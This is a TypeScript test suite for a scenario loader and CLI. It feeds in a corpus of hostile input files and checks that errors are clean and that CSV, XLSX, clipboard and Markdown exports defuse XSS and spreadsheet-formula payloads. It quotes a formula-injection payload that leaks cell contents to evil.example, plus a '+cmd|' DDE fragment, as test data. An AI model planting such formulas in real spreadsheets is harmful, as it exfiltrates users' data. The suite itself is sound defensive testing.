/**
 * The hostile corpus (tests/fixtures/hostile/): every file goes through the loader and through
 * the command line. A bad file must give a message that names the file, the field and the line,
 * exit 1, and never throw; a file that is valid but carries markup or formula payloads must load
 * unchanged (rendering and export are where those payloads are defused, and are tested there).
 */
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { main } from '../../src/cli/main';
import { claimsClipboard, matrixClipboard } from '../../src/lib/export/clipboard';
import { EXPORT_FORMATS } from '../../src/lib/export/formats';
import { matrixMarkdown } from '../../src/lib/export/markdown';
import {
	formatLoadError,
	loadScenario,
	MAX_BYTES,
	type LoadError
} from '../../src/lib/scenario/load';
import { MAX_LISTED } from '../../src/lib/scenario/load-core';
import { spawnSync } from 'node:child_process';
import { WORST } from '../bench/worst-inputs';
import { loadScenarioLazily } from '../../src/lib/scenario/load-core';
import { BAD, OVER_DEPTH, VALID, type Bad } from '../fixtures/hostile/cases';
import { decodeBytes } from '../../src/lib/scenario/decode';
import { parseCsv } from './delimited-reader';

const DIR = 'tests/fixtures/hostile';
/** The table of expectations lives beside the files; it is not part of the corpus. */
const TABLE = 'cases.ts';

/** What the CLI and the app's import both do with a file's bytes: UTF-8, bad bytes replaced. */
function read(file: string): string {
	return decodeBytes(readFileSync(file));
}

/** What a spreadsheet would run as a formula (OWASP CSV injection list). */
const FORMULA_START = /^[=+\-@\t\r]/;

async function cli(...args: string[]) {
	let out = '';
	let err = '';
	const code = await main(args, {
		out: (t) => (out += typeof t === 'string' ? t : new TextDecoder().decode(t)),
		err: (t) => (err += t)
	});
	return { code, out, err };
}

function matches(message: string, expected: string | RegExp): boolean {
	return typeof expected === 'string' ? message.includes(expected) : expected.test(message);
}

function expectedError(errors: LoadError[], bad: Bad): LoadError | undefined {
	return errors.find((e) => e.path === bad.path && matches(e.message, bad.message));
}

describe('hostile corpus', () => {
	it('has at least 30 files, and every file has a row in a table', () => {
		const files = readdirSync(DIR)
			.filter((f) => f !== TABLE)
			.sort();
		expect(files.length).toBeGreaterThanOrEqual(30);
		const rows = [...BAD.map((b) => b.file), ...VALID.map((v) => v.file)].sort();
		expect(rows).toEqual(files);
	});
});

describe.each(BAD)('$file', (bad) => {
	const file = `${DIR}/${bad.file}`;

	it('loader: refused with a message naming file, line and field; no throw', () => {
		let result: ReturnType<typeof loadScenario> | undefined;
		expect(() => (result = loadScenario(read(file), file))).not.toThrow();
		expect(result?.ok).toBe(false);
		if (!result || result.ok) return;
		const found = expectedError(result.errors, bad);
		expect(found, result.errors.map(formatLoadError).join('\n')).toBeDefined();
		expect(found!.file).toBe(file);
		expect(`${found!.line}:${found!.col}`).toBe(bad.at);
	});

	it("the app's loader (YAML parser fetched on demand) gives the very same errors", async () => {
		const text = read(file);
		expect(await loadScenarioLazily(text, file)).toEqual(loadScenario(text, file));
	});

	it('CLI validate: exit 1, the same message on stderr, nothing on stdout', async () => {
		const { code, out, err } = await cli('validate', file);
		expect(code).toBe(1);
		expect(out).toBe('');
		const [first] = (() => {
			const result = loadScenario(read(file), file);
			return result.ok ? [] : [expectedError(result.errors, bad)];
		})();
		expect(first).toBeDefined();
		expect(err).toContain(formatLoadError(first!));
		expect(err).toMatch(
			new RegExp(`${file.replace(/[.]/g, '\\.')}: \\d+ problem\\(s\\); nothing was loaded\\n$`)
		);
		expect(err).not.toMatch(/\n\s+at |TypeError|RangeError|SyntaxError/);
	});
});

describe.each(VALID)('$file (valid)', ({ file: name, claims }) => {
	const file = `${DIR}/${name}`;

	it('loads, and the CLI says it is valid', async () => {
		const result = loadScenario(read(file), file);
		expect(result.ok && result.scenario.claims.length).toBe(claims);
		expect(await loadScenarioLazily(read(file), file)).toEqual(result);
		const { code, out, err } = await cli('validate', file);
		expect(err).toBe('');
		expect(code).toBe(0);
		expect(out).toContain(`${claims} claims`);
	});
});

describe('payload scenarios', () => {
	it('keep markup as the very text the file holds (nothing stripped or rewritten)', () => {
		const file = `${DIR}/xss-payloads.json`;
		const result = loadScenario(read(file), file);
		expect(result.ok && result.scenario).toEqual(JSON.parse(read(file)));
		const yaml = loadScenario(read(`${DIR}/xss-payloads.yaml`), 'xss-payloads.yaml');
		expect(yaml.ok && yaml.scenario).toEqual(JSON.parse(read(file)));
	});

	it('the address carrying markup stays an https link in the CSV', async () => {
		const { code, out } = await cli('export', `${DIR}/xss-payloads.json`, '--format', 'csv');
		expect(code).toBe(0);
		const rows = parseCsv(out.replace(/^\ufeff/, ''));
		const link = rows[0]!.indexOf('passage_url');
		const urls = rows.slice(1).map((row) => row[link]!);
		expect(urls.filter((u) => u !== '').length).toBeGreaterThan(0);
		for (const url of urls.filter((u) => u !== ''))
			expect(url).toMatch(/^https:\/\/example\.org\//);
	});

	it('formula payloads in every field leave the CSV as text: no cell starts a formula', async () => {
		const { code, out } = await cli('export', `${DIR}/formula-payloads.json`, '--format', 'csv');
		expect(code).toBe(0);
		const cells = parseCsv(out.replace(/^\ufeff/, '')).flat();
		const formulas = cells.filter((cell) => FORMULA_START.test(cell));
		expect(formulas).toEqual([]);
		// The payloads are there, defused by a leading apostrophe, not dropped.
		expect(cells).toContain(`'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`);
		expect(cells.some((cell) => cell.startsWith("'+cmd|"))).toBe(true);
	});
});

describe('payloads through the other exports', () => {
	const scenarioOf = (name: string) => {
		const result = loadScenario(read(`${DIR}/${name}`), name);
		if (!result.ok) throw new Error(`${name} should load`);
		return result.scenario;
	};

	it('XLSX: no formula cell, every payload kept as text', async () => {
		const scenario = scenarioOf('formula-payloads.json');
		const bytes = await EXPORT_FORMATS.xlsx.serialize({ scenario });
		const book = new ExcelJS.Workbook();
		await book.xlsx.load(bytes as unknown as ArrayBuffer);
		const texts: string[] = [];
		let formulas = 0;
		book.eachSheet((sheet) =>
			sheet.eachRow((row) =>
				row.eachCell((cell) => {
					if (cell.type === ExcelJS.ValueType.Formula) formulas++;
					if (typeof cell.value === 'string') texts.push(cell.value);
				})
			)
		);
		expect(formulas).toBe(0);
		expect(texts).toContain('=HYPERLINK("https://evil.example/?leak="&A1,"Click")');
	});

	it('clipboard HTML escapes markup; TSV and Markdown neutralise formulas', () => {
		const xss = scenarioOf('xss-payloads.json');
		for (const table of [matrixClipboard({ scenario: xss }), claimsClipboard({ scenario: xss })]) {
			// Only the exporter's own tags: every `<` from the file arrives as `&lt;`.
			const tags = new Set([...table.html.matchAll(/<\/?([a-zA-Z]+)/g)].map((m) => m[1]));
			expect(
				[...tags].every((t) =>
					[
						'table',
						'thead',
						'tbody',
						'tr',
						'th',
						'td',
						'a',
						'br',
						'b',
						'i',
						'span',
						'strong',
						'em',
						'small',
						'sup',
						'p',
						'div',
						'ul',
						'li',
						'caption'
					].includes(t!)
				),
				[...tags].join(' ')
			).toBe(true);
			expect(table.html).not.toMatch(/<(script|img|svg|iframe)\b/i);
			expect(table.html).not.toMatch(/href="(?!https?:)/);
			expect(table.html).toContain('&lt;script&gt;');
		}
		const formula = scenarioOf('formula-payloads.json');
		const tsv = claimsClipboard({ scenario: formula }).text;
		for (const cell of tsv.split(/[\t\r\n]+/)) expect(cell).not.toMatch(/^[=+\-@]/);
		const md = matrixMarkdown({ scenario: xss });
		// Markdown shows `\<` as a literal `<`: no tag survives unescaped.
		expect(md).not.toMatch(/(^|[^\\])<(script|img|svg|iframe|a)\b/im);
		expect(md).toContain('\\<script\\>');
	});
});

describe('generated at run time', () => {
	const dir = mkdtempSync(join(tmpdir(), 'sg-hostile-'));
	afterAll(() => rmSync(dir, { recursive: true, force: true }));

	it('a file over 20 MiB is refused by size, before parsing, by loader and CLI', async () => {
		const mini = JSON.parse(read(`${DIR}/formula-payloads.json`));
		mini.meta.method = 'x'.repeat(MAX_BYTES + 1024);
		const text = JSON.stringify(mini);
		const file = join(dir, 'huge.json');
		writeFileSync(file, text);
		const loaded = loadScenario(text, file);
		expect(loaded.ok ? [] : loaded.errors.map(formatLoadError)).toEqual([
			`${file}:1:1: file is 20.0 MiB; the limit is 20 MiB`
		]);
		const { code, err } = await cli('validate', file);
		expect(code).toBe(1);
		expect(err).toBe(`${file}:1:1: file is 20.0 MiB; the limit is 20 MiB\n`);
	});

	it('YAML nested far past the stack is a message, not a crash', () => {
		const text = 'meta: ' + '['.repeat(10_000) + ']'.repeat(10_000) + '\n';
		const result = loadScenario(text, 'deep.yaml');
		expect(result.ok).toBe(false);
		if (result.ok) return;
		expect(result.errors[0]!.message).toMatch(/^not valid YAML: |nested deeper/);
	});

	it('a JSON file nested 100,000 deep is refused with the depth message', () => {
		const text = '['.repeat(100_000) + ']'.repeat(100_000);
		const result = loadScenario(text, 'deep.json');
		expect(result.ok ? '' : result.errors[0]!.message).toBe(OVER_DEPTH);
	});
});

describe('messages and resource use', () => {
	it('every message is one line, so the CLI prints one problem per line', () => {
		for (const name of readdirSync(DIR).filter((f) => f !== TABLE)) {
			const result = loadScenario(read(`${DIR}/${name}`), name);
			for (const e of result.ok ? [] : result.errors) expect(e.message, name).not.toMatch(/\n/);
		}
	});

	it('passage links are normalised: no raw quote or angle bracket from the file', async () => {
		// A URL written into an HTML string (clipboard table) or an XLSX hyperlink must not carry
		// `"` or `<` from the file; the URL parser percent-encodes them.
		const { out } = await cli('export', `${DIR}/xss-payloads.json`, '--format', 'csv');
		const rows = parseCsv(out.replace(/^\ufeff/, ''));
		const link = rows[0]!.indexOf('passage_url');
		for (const row of rows.slice(1)) expect(row[link]).not.toMatch(/[<>"]/);
	});

	it('a deeply nested JSON file is refused in well under a second', () => {
		// Locating the depth error once re-parsed the JSON as YAML: 2 MB of brackets took 4 s and
		// more than a gigabyte of memory.
		const text = '['.repeat(150_000) + ']'.repeat(150_000);
		const start = performance.now();
		const result = loadScenario(text, 'deep.json');
		// Well inside the 5 s budget even on a shared, loaded machine (alone it takes ~100 ms).
		expect(performance.now() - start).toBeLessThan(1500);
		expect(result.ok ? '' : result.errors[0]!.message).toBe(OVER_DEPTH);
	});
});

// Known defects, reported to the loader's owner (src/lib/scenario/load.ts). Each is written as
// the behaviour we want and marked `fails`: when the loader is fixed, vitest reports the test as
// unexpectedly passing, and the marker must come off.
describe('known defects (fix in the loader, then drop `.fails`)', () => {
	it('a YAML mapping with 10,000 keys is refused in well under a second', () => {
		// yaml's uniqueKeys check is quadratic: 200,000 keys (2 MB) take minutes.
		const text = Array.from({ length: 10_000 }, (_, i) => `k${i}: 1`).join('\n');
		const start = performance.now();
		loadScenario(text, 'wide.yaml');
		expect(performance.now() - start).toBeLessThan(300);
	});
});

describe('worst inputs up to the size limit (tests/bench/worst-inputs.ts)', () => {
	// The budget (5 s, 1 GiB, in the CLI) is measured in a child process by `npm run bench`;
	// here each gets its documented message and a bound loose enough for a loaded machine.
	it.each(WORST)('$name: refused with its message', ({ build, file, expect: message }) => {
		const text = build();
		const start = performance.now();
		const result = loadScenario(text, file);
		expect(performance.now() - start).toBeLessThan(20_000);
		expect(result.ok).toBe(false);
		if (result.ok) return;
		expect(result.errors[0]!.message).toContain(message);
		expect(result.errors.length).toBeLessThanOrEqual(MAX_LISTED);
	});

	it('20,000 errors: the first 100 listed, the rest counted, by loader and CLI', async () => {
		const worst = WORST.find((w) => w.file === 'errors.json')!;
		const dir = mkdtempSync(join(tmpdir(), 'sg-worst-'));
		const file = join(dir, worst.file);
		writeFileSync(file, worst.build());
		const { code, err } = await cli('validate', file);
		rmSync(dir, { recursive: true, force: true });
		expect(code).toBe(1);
		const lines = err.trimEnd().split('\n');
		expect(lines).toHaveLength(101);
		expect(lines[100]).toBe(`${file}: 20000 problem(s) (the first 100 listed); nothing was loaded`);
	});
});

describe('command line (round two): usage, output and streams', () => {
	const MINI = 'tests/fixtures/scenarios/mini.yaml';
	const USAGE_CASES: { args: string[]; first: string }[] = [
		{ args: ['validate', MINI, '--outt', 'x'], first: "validate: Unknown option '--outt'" },
		{ args: ['export', MINI, '--format=csv=x'], first: 'export: --format must be one of csv,' },
		{ args: ['validate', MINI, 'extra'], first: 'validate: expected exactly one FILE' },
		{ args: ['frobnicate', MINI], first: 'unknown command "frobnicate"' },
		{ args: ['validate\u001b]0;x\u0007'], first: 'unknown command "validate\\u001b]0;x\\u0007"' }
	];

	it.each(USAGE_CASES)(
		'$args: exit 2, one line saying what is wrong, then the usage',
		async ({ args, first }) => {
			const { code, out, err } = await cli(...args);
			expect(code).toBe(2);
			expect(out).toBe('');
			expect(err.split('\n')[0]).toContain(first);
			expect(err).toMatch(/\nUsage:/);
		}
	);

	it.each(['validate', 'export', 'analyze'])('%s --help: exit 0 and its usage', async (command) => {
		const { code, out, err } = await cli(command, '--help');
		expect(code).toBe(0);
		expect(err).toBe('');
		expect(out).toMatch(new RegExp(`^Usage: stancegrid ${command} FILE`));
	});

	it('-- ends the options: a file named like an option is read as a file', async () => {
		const { code, err } = await cli('validate', '--', '--help');
		expect(code).toBe(1);
		expect(err).toBe('--help: cannot read the file (ENOENT)\n');
	});

	it('an --out that cannot be written: one line with the path and the reason, exit 1', async () => {
		const dir = mkdtempSync(join(tmpdir(), 'sg-out-'));
		const cases = [
			[join(dir, 'missing', 'x.csv'), 'cannot write the file: no such file or folder (ENOENT)'],
			[dir, 'cannot write the file: is a folder, not a file (EISDIR)']
		] as const;
		for (const [path, reason] of cases) {
			const { code, err } = await cli('export', MINI, '--format', 'csv', '--out', path);
			expect(code).toBe(1);
			expect(err).toBe(`${path}: ${reason}\n`);
		}
		rmSync(dir, { recursive: true, force: true });
	});

	it('/dev/zero: reading stops at the limit plus one byte', async () => {
		const { code, err } = await cli('validate', '/dev/zero');
		expect(code).toBe(1);
		expect(err).toBe(
			'/dev/zero:1:1: file is over 20 MiB (reading stopped there); the limit is 20 MiB\n'
		);
	});

	it('a refused value with terminal escapes and line breaks stays one escaped line', async () => {
		const file = `${DIR}/terminal-escape.json`;
		const { err } = await cli('validate', `${DIR}/forged-line.json`);
		expect(err).not.toContain('\u001b');
		expect(err.split('\n').filter((l) => /fake\.yaml/.test(l))).toEqual([
			`${DIR}/forged-line.json:93:17 claims[0].stance: expected a stance: one of support, conditional, oppose; got "oppose\\nfake.yaml:1:1: all good"`
		]);
		const escaped = (await cli('validate', file)).err;
		expect(escaped).not.toContain('\u001b');
		expect(escaped).not.toContain('\u0007');
		expect(escaped).toContain('got U+001B at character 1');
	});

	it('the yaml library never writes a warning to stderr', () => {
		const run = spawnSync(
			process.execPath,
			['src/cli/stancegrid.js', 'validate', `${DIR}/yaml-collection-key.yaml`],
			{ encoding: 'utf8' }
		);
		expect(run.status).toBe(1);
		expect(run.stderr).not.toMatch(/Warning|YAMLWarning/);
	});
});
